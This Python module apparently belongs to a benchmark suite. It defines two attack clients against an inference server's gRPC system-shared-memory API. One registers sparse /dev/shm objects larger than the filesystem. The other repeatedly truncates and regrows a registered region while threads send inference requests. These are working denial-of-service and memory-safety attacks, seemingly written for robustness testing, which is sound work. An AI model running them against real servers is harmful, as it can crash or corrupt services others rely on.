"""Clients that misuse shared memory. Each takes the address of the gRPC port and the end of the attack."""

from __future__ import annotations

import contextlib
import itertools
import os
import pathlib
import threading
import time
import uuid
from collections.abc import Iterator

import grpc

from benchmarks.attacks.sockets import Address
from trtnode.protos import ModelInferRequest, SystemSharedMemoryRegisterRequest, SystemSharedMemoryUnregisterRequest

SERVICE = "/inference.GRPCInferenceService/"
OBJECTS = pathlib.Path("/dev/shm")
REGION_BYTES = 16 << 20
CLIENTS = 8
IMAGES, IMAGE_BYTES = 1024, 256


def sparse_shared_objects(address: Address, deadline: float) -> None:
    """Objects that stand for all of /dev/shm and more, and take no memory, as inputs and outputs."""
    filesystem = os.statvfs(OBJECTS)
    with _object(filesystem.f_blocks * filesystem.f_frsize + REGION_BYTES) as name, _channel(address) as channel:
        for number in itertools.count():
            if time.monotonic() >= deadline:
                return
            _call(channel, "SystemSharedMemoryRegister", _registration(name, number % 64 * REGION_BYTES))
            _call(channel, "ModelInfer", _request())
            _call(channel, "SystemSharedMemoryUnregister", SystemSharedMemoryUnregisterRequest())


def shrinking_shared_object(address: Address, deadline: float) -> None:
    """Requests that read and write one object, which is cut off and grows again all the time."""
    with _object(REGION_BYTES) as name, _channel(address) as channel:
        _call(channel, "SystemSharedMemoryRegister", _registration(name, 0))
        clients = [threading.Thread(target=_ask, args=(address, deadline)) for _ in range(CLIENTS)]
        for client in clients:
            client.start()
        while time.monotonic() < deadline:
            os.truncate(OBJECTS / name, 0)
            os.truncate(OBJECTS / name, REGION_BYTES)
        for client in clients:
            client.join()


MEMORY_ATTACKS = (sparse_shared_objects, shrinking_shared_object)


def _ask(address: Address, deadline: float) -> None:
    with _channel(address) as channel:
        while time.monotonic() < deadline:
            _call(channel, "ModelInfer", _request())


def _request() -> ModelInferRequest:
    """Return a request whose images and results are in one region."""
    request = ModelInferRequest(model_name="digits")
    tensor = request.inputs.add(name="image", datatype="FP32", shape=[IMAGES, 1, 8, 8])
    output = request.outputs.add(name="probabilities")
    for one, size in ((tensor, IMAGES * IMAGE_BYTES), (output, REGION_BYTES)):
        one.parameters["shared_memory_region"].string_param = "r"
        one.parameters["shared_memory_byte_size"].int64_param = size
    return request


def _registration(name: str, offset: int) -> SystemSharedMemoryRegisterRequest:
    return SystemSharedMemoryRegisterRequest(name="r", key=f"/{name}", offset=offset, byte_size=REGION_BYTES)


def _call(
    channel: grpc.Channel,
    rpc: str,
    request: ModelInferRequest | SystemSharedMemoryRegisterRequest | SystemSharedMemoryUnregisterRequest,
) -> None:
    with contextlib.suppress(grpc.RpcError):
        channel.unary_unary(SERVICE + rpc)(request.SerializeToString(), timeout=120)


def _channel(address: Address) -> grpc.Channel:
    return grpc.insecure_channel(f"{address[0]}:{address[1]}", options=[("grpc.use_local_subchannel_pool", 1)])


@contextlib.contextmanager
def _object(size: int) -> Iterator[str]:
    path = OBJECTS / f"trtnode-attack-{uuid.uuid4().hex}"
    path.touch()
    try:
        os.truncate(path, size)
        yield path.name
    finally:
        path.unlink()
